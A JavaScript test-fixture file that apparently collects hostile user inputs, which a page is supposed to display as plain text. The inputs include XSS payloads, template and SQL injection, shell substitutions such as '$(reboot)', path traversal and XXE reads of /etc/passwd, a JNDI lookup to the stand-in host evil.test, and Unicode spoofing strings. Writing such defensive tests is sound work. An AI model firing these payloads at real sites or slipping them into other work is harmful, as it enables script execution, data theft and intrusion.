// What people write who want a page to do something else than show it. Each is to be shown as it is, as text and once.

const CALL = 'window.hacked=1;alert(1)';

const markup = [
  '<script>CALL</script>', '<script src=https://evil.test/x.js></script>', '<SCRIPT>CALL</SCRIPT>', '<scr<script>ipt>CALL</scr</script>ipt>',
  '<script\n>CALL</script\n>', '<script/x>CALL</script>', '</script><script>CALL</script>', '</textarea><script>CALL</script>',
  '</title><script>CALL</script>', '</style><script>CALL</script>', '</noscript><script>CALL</script>', '</p></div></main><h1>gone</h1>',
  '<img src=x onerror=CALL>', '<img src=x onerror="CALL">', "<img src=x onerror='CALL'>", '<img src=`x` onerror=CALL>', '<img/src=x/onerror=CALL>',
  '<img src=https://evil.test/pixel.gif>', '<img srcset="https://evil.test/a 1x">', '<image src=x onerror=CALL>', '<picture><source srcset=x onerror=CALL><img src=x></picture>',
  '<svg onload=CALL>', '<svg/onload=CALL>', '<svg><script>CALL</script></svg>', '<svg><script href="data:text/javascript,CALL"/></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:CALL>', '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>',
  '<svg><use href="https://evil.test/x.svg#a"/></svg>', '<svg><foreignObject><iframe src=javascript:CALL></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">', '<math href="javascript:CALL">x</math>',
  '<body onload=CALL>', '<body background=https://evil.test/b>', '<iframe src=javascript:CALL></iframe>', '<iframe srcdoc="<script>CALL</script>"></iframe>',
  '<iframe src=https://evil.test></iframe>', '<object data=javascript:CALL></object>', '<embed src=javascript:CALL>', '<applet code=x>', '<frameset onload=CALL>',
  '<link rel=stylesheet href=https://evil.test/x.css>', '<link rel=prefetch href=https://evil.test/p>', '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">', '<base href=https://evil.test/>', '<form action=https://evil.test><input name=a><button>Send</button></form>',
  '<input autofocus onfocus=CALL>', '<button formaction=javascript:CALL>Meet</button>', '<select autofocus onfocus=CALL>', '<textarea autofocus onfocus=CALL>',
  '<details open ontoggle=CALL><summary>x</summary></details>', '<dialog open onclose=CALL>x</dialog>', '<video src=x onerror=CALL>', '<audio src=x onerror=CALL>',
  '<video><source onerror=CALL></video>', '<marquee onstart=CALL>x</marquee>', '<keygen autofocus onfocus=CALL>', '<isindex type=image src=1 onerror=CALL>',
  '<template><script>CALL</script></template>', '<slot onslotchange=CALL>', '<x onclick=CALL tabindex=1 id=x autofocus onfocus=CALL>', '<a href=javascript:CALL>click</a>',
  '<a href="&#106;avascript:CALL">click</a>', '<a href="java\tscript:CALL">click</a>', '<a href=https://evil.test target=_blank>click</a>', '<a ping=https://evil.test href=#>x</a>',
  '<table background=javascript:CALL>', '<div style="position:fixed;inset:0;background:red">x</div>', '<div id=card hidden></div>', '<p role=alert id=state>x</p>',
  '<!--<img src="--><img src=x onerror=CALL>">', '<![CDATA[<script>CALL</script>]]>', '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>CALL</h:script></x>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<noscript><p title="</noscript><img src=x onerror=CALL>">', '<plaintext>', '<xmp><p title="</xmp><svg/onload=CALL>">', '<', '<<', '</', '<!--', '-->', '>',
];

const escapes = [
  '" onmouseover="CALL', "' onfocus='CALL' autofocus='", '"><svg onload=CALL>', "'><img src=x onerror=CALL>", '`;CALL;//', "';CALL;//", '";CALL;//', '\\";CALL;//', '</script>";CALL;//',
  '${CALL}', '#{CALL}x', '{{constructor.constructor("CALL")()}}', '{{7*7}}', '<%= 7*7 %>', '{%raw%}', '[[${7*7}]]', '*{7*7}', '@(7*7)', '~[CALL]', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{"__proto__":{"hacked":1}}',
  'javascript:CALL', 'JaVaScRiPt:CALL', 'java\u0000script:CALL', 'data:text/html,<script>CALL</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'blob:https://evil.test/x', 'file:///etc/passwd', '//evil.test/x', 'https://evil.test/?q=<script>CALL</script>',
  'expression(CALL)', 'x:expression(CALL)', '@import "https://evil.test/x.css";', 'background:url(javascript:CALL)', '}</style><script>CALL</script>', '*{display:none!important}', ':root{--ink:transparent}', 'content:attr(onclick)',
  '&lt;script&gt;CALL&lt;/script&gt;', '&#60;script&#62;CALL&#60;/script&#62;', '&#x3c;img src=x onerror=CALL&#x3e;', '&amp;lt;b&amp;gt;', '&nbsp;&shy;&zwj;', '%3Cscript%3ECALL%3C/script%3E', '\\u003cscript\\u003eCALL\\u003c/script\\u003e', '\\x3cscript\\x3eCALL\\x3c/script\\x3e', '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=CALL )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=CALL//>\\x3e",
  '"\'--></style></script><script>CALL</script>', '\'"()&%<acx><ScRiPt >CALL</ScRiPt>', '-->\'"/></sCript><deTailS open x=">" ontoggle=(co\\u006efirm)``>',
];

const breakers = [
  '{"type":"chat_message","from":"System","message":"x"}', '"}', '\\', '\\"', '"', "'", '`', '{"a":', ']}', '\\u0000', '\\ud800', 'a\u2028b', 'a\u2029b', 'a\nb\nc', 'a\tb', '\u{1F4A9}', 'null', 'undefined', 'true', '[object Object]', 'NaN', '0', '-1', '1e309',
  "Robert'); DROP TABLE messages;--", "' OR 1=1 --", '$(reboot)', '`reboot`', '| cat /etc/passwd', '%s%s%n%n', '%x', '../../../../etc/passwd', 'GET / HTTP/1.1', 'HTTP/1.1 200 OK\nSet-Cookie: a=b', 'data: x\nevent: y', '\u001b[31mred\u001b[0m', '${jndi:ldap://evil.test/a}', '() { :; }; echo x',
];

const looks = [
  '\u202Eevil\u202C', '\u202Dabc\u202C', '\u2066abc\u2069', '\u2067abc\u2069', '\u2068abc', 'abc\u2069\u2069\u2069', '\u200Fabc\u200F', '\u061Cabc', '\u202Ecod.exe', 'שלום \u202Eabc\u202C עולם', 'مرحبا <b>x</b> 123', 'אבג123דהו(456)',
  'a\u200Bb', 'a\u200Cb', 'a\u200Db', 'a\uFEFFb', 'a\u2060b', 'a\u00ADb', 'a\u034Fb', 'ㅤㅤx', '⠀⠀x', 'a\u3164b', '\uFFF9a\uFFFAb\uFFFB', '\uE000\uE001', '\uFFFD\uFFFF', '\u{E0041}\u{E0042}x', 'ａｄｍｉｎ', 'Ѕуѕtеm', 'S\u0332y\u0332s\u0332t\u0332e\u0332m',
  `Z${'\u0310\u0334\u0362'.repeat(60)}algo`, `${'e' + '\u0301'.repeat(300)}`, '\u0E33'.repeat(80), 'ส็็็็็็็็็็็็็็็็็็็็็็็็็', '\u{12031}'.repeat(30), '﷽'.repeat(25), '𒐫'.repeat(30), '꧅'.repeat(20), '🏳️‍🌈'.repeat(20), '🇩🇪🇫🇷🇮🇳🇧🇷'.repeat(10), '👨‍👩‍👧‍👦'.repeat(30), '👋🏽👋🏿', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '1️⃣2️⃣3️⃣x', '👍\uFE0E',
  'W'.repeat(1000), 'https://example.org/'.repeat(40), '\u00A0'.repeat(200) + 'x', 'x\n'.repeat(100) + 'x', 'ـ'.repeat(300), '_'.repeat(500), 'a\u2011'.repeat(300) + 'b', '中'.repeat(500), '漢字'.repeat(100), 'あ゙'.repeat(50), 'i\u0307İıI', 'ß ẞ ﬃ Ǆ', 'ᄀ'.repeat(50), 'ᚠᛇᚻ ᛒᛦᚦ', 'العربية'.repeat(40),
];

/** None is cut at its ends, begins like a command, or says what another says. */
export const HOSTILE = [...new Set([...markup, ...escapes, ...breakers, ...looks].map((text) => text.replaceAll('CALL', CALL).trim()))]
  .filter((text) => !text.startsWith('#'));
